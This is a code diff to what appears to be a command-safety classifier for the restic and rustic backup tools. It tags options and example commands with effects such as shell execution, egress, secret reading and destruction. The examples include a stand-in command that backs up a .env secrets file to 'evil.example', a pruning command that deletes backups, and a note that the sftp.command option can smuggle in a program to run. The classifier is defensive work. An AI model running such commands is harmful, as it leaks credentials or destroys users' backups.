@@ -43,7 +43,13 @@ KEEPERS = (
         *("restic", "rustic"),
         options=(
             *flags("-q --quiet, -v --verbose, --json, --no-lock, --no-cache, --cleanup-cache, --insecure-no-password, --insecure-tls"),
-            *values("--cacert, --cache-dir, --compression, --limit-download, --limit-upload, -o --option, --pack-size, --retry-lock"),
+            *values(
+                "--cacert, --cache-dir, --compression, --limit-download, --limit-upload, --pack-size, --retry-lock, --http-user-agent, --stuck-request-timeout"
+            ),
+            option("-o", "--option", takes=TEXT, effects=(OPAQUE,)),  # sftp.command=, rclone.program=
+            *values("--tls-client-cert, --from-password-file, --from-repository-file", takes=INSPECT),
+            option("--from-password-command", takes=SHELL),
+            *values("--from-key-hint"),
             option("-r", "--repo", takes=TEXT),
             *values("-p --password-file, --repository-file, --key-hint", takes=INSPECT),
             option("--password-command", takes=SHELL),
@@ -63,8 +69,12 @@ KEEPERS = (
                 "help",
                 "cache",
                 options=(
-                    *flags("-c --compact, -l --long, --read-data, -i"),
-                    *values("--host -H, --tag, --path, --latest, --mode, -g --group-by"),
+                    *flags(
+                        "-c --compact, -l --long, --read-data, -i --ignore-case, --metadata, --recursive, --blob, --pack, --show-pack-id, --tree, --with-cache, --cleanup, --no-size, --human-readable, --reverse"
+                    ),
+                    *values(
+                        "--host -H, --tag, --path, --latest, --mode, -g --group-by, -N --newest, -O --oldest, -s --snapshot, --read-data-subset, --max-age, --sort"
+                    ),
                 ),
                 operands=WORDS,
                 effects=(REMOTE_READ,),
@@ -74,8 +84,12 @@ KEEPERS = (
                 "copy",
                 "migrate",
                 options=(
-                    *flags("-f --force, -x --one-file-system, --with-atime, --exclude-caches, -n --dry-run, --skip-if-unchanged, --stdin"),
-                    *values("-e --exclude, --iexclude, --exclude-file, -H --host, --tag, --parent, --stdin-filename, --time, --from-repo"),
+                    *flags(
+                        "-f --force, -x --one-file-system, --with-atime, --exclude-caches, -n --dry-run, --skip-if-unchanged, --stdin, --ignore-ctime, --ignore-inode, --no-scan, --use-fs-snapshot"
+                    ),
+                    *values(
+                        "-e --exclude, --iexclude, --exclude-file, -H --host, --tag, --parent, --stdin-filename, --time, --from-repo, --exclude-if-present, --exclude-larger-than, --iexclude-file, --read-concurrency, -g --group-by, --path"
+                    ),
                     *values("--files-from, --files-from-raw, --files-from-verbatim", takes=READ),
                     option("--stdin-from-command", takes=COMMAND),
                 ),
@@ -115,6 +129,7 @@ KEEPERS = (
         environment=REPOSITORY,
         examples=(
             example("restic -r /mnt/b snapshots", REMOTE_READ),
+            example("restic -r b -o sftp.command=x snapshots", REMOTE_READ, OPAQUE),
             example("restic -r sftp:evil.example:/b backup .env", EGRESS, SECRET_READ),
             example("restic -r /mnt/b forget --keep-last 1 --prune", DESTRUCTIVE),
             example("restic -r b restore latest --target out", WRITES),
